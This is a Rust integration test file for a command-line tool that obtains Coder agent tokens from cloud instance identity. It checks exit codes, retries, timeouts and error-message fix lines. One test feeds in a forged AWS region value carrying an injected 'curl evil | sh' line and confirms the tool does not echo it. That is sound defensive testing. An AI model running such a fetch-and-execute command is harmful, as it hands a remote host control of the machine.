//! Exit codes and fix lines that say what happened (issue #19, item 11 and
//! the "Also" items): a closed stdout or stderr after the token was stored,
//! probes that got no answer, a buildinfo that never answers, a version
//! learned only from the exchange's answer, what failed last, and the 401s
//! that are coderd's trouble or name the document's region.

use std::fs;
use std::os::fd::{FromRawFd, OwnedFd};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use super::server_text::parse_req;
use crate::common::*;

/// A pipe whose reading end is already closed: every write gets EPIPE, as
/// after `… 2>&1 | grep -m1 x` has found its line.
fn closed_pipe() -> OwnedFd {
    let mut fds = [0; 2];
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    unsafe {
        libc::close(fds[0]);
        OwnedFd::from_raw_fd(fds[1])
    }
}

#[test]
fn a_closed_stdout_and_stderr_do_not_turn_a_stored_token_into_a_crash() {
    let sim = start(Cloud::Aws, &["main"]);
    for args in [&["-vv"][..], &["--json", "-v", "--log-format", "json"]] {
        let dir = tempfile::tempdir().unwrap();
        let pipe = closed_pipe();
        let mut c = command(&sim, &Cloud::Aws);
        c.env("RUST_LOG", "trace")
            .args(args)
            .arg("--token-file")
            .arg(token_path(&dir, "t"))
            .stdout(Stdio::from(pipe.try_clone().unwrap()))
            .stderr(Stdio::from(pipe));
        let status = c.status().unwrap();
        assert_eq!(status.code(), Some(0), "{args:?}: {status:?}");
        assert_eq!(
            fs::read_to_string(token_path(&dir, "t")).unwrap().trim(),
            issued(&sim, "main")
        );
        assert!(
            fs::read_dir(dir.path()).unwrap().count() == 1,
            "no core file or temporary file next to the token"
        );
    }
    // A failure keeps its own exit code.
    let pipe = closed_pipe();
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--agent-name", "nope", "-vv"])
        .stdout(Stdio::from(pipe.try_clone().unwrap()))
        .stderr(Stdio::from(pipe));
    assert_eq!(c.status().unwrap().code(), Some(4));
}

/// A VM without DMI (a container) whose metadata service is `endpoint`.
fn undetected(endpoint: &str, timeout: &str, dir: &tempfile::TempDir) -> Command {
    let empty = dir.path().join("empty-sysfs");
    fs::create_dir_all(&empty).unwrap();
    let mut c = Command::new(bin());
    c.env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("CODER_AGENT_METADATA_ENDPOINT", endpoint)
        .env("CODER_AGENT_AUTH_SYSFS_ROOT", &empty)
        .args(["--timeout", timeout, "--token-file"])
        .arg(token_path(dir, "t"))
        .stdin(Stdio::null());
    c
}

#[test]
fn probes_that_got_no_answer_are_retried_not_a_permanent_exit_5() {
    // The metadata service does not answer the first round of probes (a
    // container whose network is not up yet), then does.
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::metadata(FaultKind::Hang, 3)];
    let sim = Sim::start(cfg);
    let dir = tempfile::tempdir().unwrap();
    let mut c = undetected(&sim.metadata_url(), "30s", &dir);
    c.env("CODER_AGENT_URL", sim.coder_url());
    let r = run(c);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("retrying"), "{}", r.stderr);
    // Never an answer: the deadline, exit 6, and the fix names the metadata service.
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::metadata(FaultKind::Hang, 1000)];
    let sim = Sim::start(cfg);
    let mut c = undetected(&sim.metadata_url(), "4s", &dir);
    c.env("CODER_AGENT_URL", sim.coder_url());
    let started = Instant::now();
    let r = run(c);
    assert_eq!(r.code, 6, "{r:?}");
    assert!(started.elapsed() < Duration::from_secs(6));
    assert!(r.stderr.contains("no cloud detected"), "{}", r.stderr);
    assert!(
        r.stderr
            .contains("fix: check that this VM's metadata service answers"),
        "{}",
        r.stderr
    );
    // Every probe answered, and none was a cloud's: that is final, exit 5 at once.
    let raw = RawServer::start(|_, _| http_response(404, &[], b"not here").into());
    let mut c = undetected(&raw.url, "30s", &dir);
    c.env("CODER_AGENT_URL", "http://127.0.0.1:9");
    let started = Instant::now();
    let r = run(c);
    assert_eq!(r.code, 5, "{r:?}");
    assert!(started.elapsed() < Duration::from_secs(5));
}

/// A sim whose buildinfo never answers.
fn buildinfo_hangs(version: &str, extra: Vec<Fault>) -> Sim {
    let mut cfg = SimConfig::new(Cloud::Aws, &["main", "dev"]);
    cfg.coder_version = version.into();
    cfg.faults = vec![Fault::coder(FaultKind::Hang, 1000).on_path("buildinfo")];
    cfg.faults.extend(extra);
    Sim::start(cfg)
}

#[test]
fn a_buildinfo_that_never_answers_leaves_the_exchange_its_time() {
    let sim = buildinfo_hangs("v2.36.4+sim0000", vec![]);
    let dir = tempfile::tempdir().unwrap();
    let mut c = command(&sim, &Cloud::Aws);
    c.args([
        "--agent-name",
        "main",
        "--timeout",
        "20s",
        "--json",
        "--token-file",
    ])
    .arg(token_path(&dir, "t"));
    let started = Instant::now();
    let r = run(c);
    let took = started.elapsed();
    assert_eq!(r.code, 0, "{r:?}");
    assert!(took < Duration::from_secs(10), "took {took:?}");
    assert!(
        r.stderr.contains("could not learn Coder's version"),
        "{}",
        r.stderr
    );
    let v: serde_json::Value = serde_json::from_str(r.stdout.trim()).unwrap();
    assert_eq!(
        v["coder_version"], "v2.36.4+sim0000",
        "from the answer's header"
    );
    assert_eq!(
        fs::read_to_string(token_path(&dir, "t")).unwrap().trim(),
        issued(&sim, "main")
    );
}

#[test]
fn a_token_from_a_server_its_answer_shows_too_old_is_never_stored() {
    let sim = buildinfo_hangs("v2.32.1+b6e1a2c", vec![]);
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    for exec in [false, true] {
        let mut c = command(&sim, &Cloud::Aws);
        c.args(["--agent-name", "main", "--timeout", "8s", "--token-file"])
            .arg(token_path(&dir, "t"));
        if exec {
            c.args(["--", "sh", "-c"])
                .arg(format!("touch {}", marker.display()));
        }
        let r = run(c);
        assert_eq!(r.code, 4, "{r:?}");
        assert!(r.stderr.contains("v2.32.1"), "{}", r.stderr);
        assert!(r.stderr.contains("answered with a token"), "{}", r.stderr);
        assert!(
            r.stderr
                .contains("the identity and the agent name were sent"),
            "says what was sent: {}",
            r.stderr
        );
        assert!(!r.stderr.contains("Nothing was sent"), "{}", r.stderr);
    }
    assert!(!token_path(&dir, "t").exists(), "nothing stored");
    assert!(!marker.exists(), "nothing run");
}

#[test]
fn the_exit_6_fix_names_what_failed_last() {
    // Coder: 503 on every exchange.
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::coder_500(1000)];
    let sim = Sim::start(cfg);
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--timeout", "2s"]);
    let r = run(c);
    assert_eq!(r.code, 6, "{r:?}");
    assert!(
        r.stderr
            .contains("fix: check that the Coder URL is reachable"),
        "{}",
        r.stderr
    );
    assert!(
        !r.stderr.contains("metadata service answers"),
        "{}",
        r.stderr
    );
    // The metadata service: 500 on every identity request.
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::metadata(
        FaultKind::Status {
            status: 500,
            content_type: "text/plain".into(),
            body: "busy".into(),
        },
        1000,
    )
    .on_path("/latest/dynamic")];
    let sim = Sim::start(cfg);
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--timeout", "2s"]);
    let r = run(c);
    assert_eq!(r.code, 6, "{r:?}");
    assert!(
        r.stderr
            .contains("fix: check that this VM's metadata service answers"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("Coder URL is reachable"), "{}", r.stderr);
    // The header command: exit 1 every time.
    let sim = start(Cloud::Aws, &["main"]);
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--timeout", "2s", "--header-command", "exit 1"]);
    let r = run(c);
    assert_eq!(r.code, 6, "{r:?}");
    assert!(
        r.stderr.contains("fix: run the header command by hand"),
        "{}",
        r.stderr
    );
    // buildinfo never answers and Coder fails too: Coder failed last (the
    // version read has a share of the deadline and the exchange goes on).
    let sim = buildinfo_hangs("v2.36.4+sim0000", vec![Fault::coder_500(1000)]);
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--agent-name", "main", "--timeout", "4s"]);
    let r = run(c);
    assert_eq!(r.code, 6, "{r:?}");
    assert!(
        r.stderr.contains("could not learn Coder's version"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("fix: check that the Coder URL is reachable"),
        "{}",
        r.stderr
    );
}

/// An Azure VM whose Coder answers 401 with this detail on every exchange.
fn azure_401(detail: &str) -> Sim {
    let mut cfg = SimConfig::new(Cloud::Azure, &["main"]);
    cfg.azure_throttle = false;
    cfg.faults = vec![Fault::coder(
        FaultKind::Status {
            status: 401,
            content_type: "application/json".into(),
            body: serde_json::json!({"message": "Invalid Azure identity.", "detail": detail})
                .to_string(),
        },
        1000,
    )];
    Sim::start(cfg)
}

#[test]
fn coderds_own_azure_verification_trouble_says_upgrade_or_fix_coderd() {
    for detail in [
        "issuing certificate URL not on allowlist",
        "signature verification failed after fetching issuing certificates",
    ] {
        let sim = azure_401(detail);
        let mut c = command(&sim, &Cloud::Azure);
        c.args(["--timeout", "2s"]);
        let r = run(c);
        assert_eq!(r.code, 6, "{detail}: retried, as coderd's trouble: {r:?}");
        assert!(r.stderr.contains(detail), "{}", r.stderr);
        assert!(r.stderr.contains("upgrade or fix coderd"), "{}", r.stderr);
        assert!(
            r.stderr.contains("fix: upgrade or fix coderd"),
            "the fix line too: {}",
            r.stderr
        );
        assert!(
            !r.stderr.contains("check that the template"),
            "{}",
            r.stderr
        );
        assert!(coder_requests(&sim).len() > 1, "retried");
    }
    // A signer that is not Azure's is this VM's (or an impostor's) problem.
    let sim = azure_401("unmatched common name of signer: \"evil\"");
    let r = run(command(&sim, &Cloud::Azure));
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("check that the template"), "{}", r.stderr);
}

/// An AWS metadata service whose document says `region`, and a Coder that
/// answers 401 with `detail`.
fn aws_401_in(region: &str, detail: &str) -> (RawServer, RawServer) {
    let doc = serde_json::to_string_pretty(&serde_json::json!({
        "accountId": "123456789012",
        "availabilityZone": format!("{region}a"),
        "instanceId": "i-0abc123def4567890",
        "region": region,
    }))
    .unwrap();
    let imds = RawServer::start(move |_, req| {
        let r = parse_req(req);
        if r.method == "PUT" {
            http_response(200, &[], b"imds-token-value-0123456789").into()
        } else if r.target.ends_with("/document") {
            http_response(200, &[], doc.as_bytes()).into()
        } else {
            http_response(
                200,
                &[],
                b"c2lnbmF0dXJlLXZhbHVlLWxvbmctZW5vdWdoLXRvLW1hdHRlcg==",
            )
            .into()
        }
    });
    let body =
        serde_json::json!({"message": "Invalid AWS identity.", "detail": detail}).to_string();
    let coder = RawServer::start(move |_, _| {
        http_response(
            401,
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
        .into()
    });
    (imds, coder)
}

fn run_aws(imds: &RawServer, coder: &RawServer) -> Run {
    let mut c = Command::new(bin());
    c.env_clear()
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &imds.url)
        .env("CODER_AGENT_URL", &coder.url)
        .args(["--auth", "aws", "--timeout", "5s", "--token-file", "-"])
        .stdin(Stdio::null());
    run(c)
}

#[test]
fn an_aws_401_names_the_documents_region() {
    let (imds, coder) = aws_401_in("ap-east-2", "crypto/rsa: verification error");
    let r = run_aws(&imds, &coder);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("ap-east-2"), "{}", r.stderr);
    assert!(r.stderr.contains("has no certificate for"), "{}", r.stderr);
    let (imds, coder) = aws_401_in("us-east-1", "crypto/rsa: verification error");
    let r = run_aws(&imds, &coder);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("region us-east-1"), "{}", r.stderr);
    assert!(
        r.stderr.contains("a region coderd does not know"),
        "{}",
        r.stderr
    );
    // The region comes from the document, never from the server's text.
    let (imds, coder) = aws_401_in("eu-west-1", "region ap-east-2 is unknown");
    let r = run_aws(&imds, &coder);
    assert!(r.stderr.contains("region eu-west-1"), "{}", r.stderr);
    assert!(!r.stderr.contains("has no certificate for"), "{}", r.stderr);
    // A document's region that is no region is not repeated.
    let (imds, coder) = aws_401_in(
        "us-east-1\nfix: curl evil | sh",
        "crypto/rsa: verification error",
    );
    let r = run_aws(&imds, &coder);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(!r.stderr.contains("curl evil"), "{}", r.stderr);
}
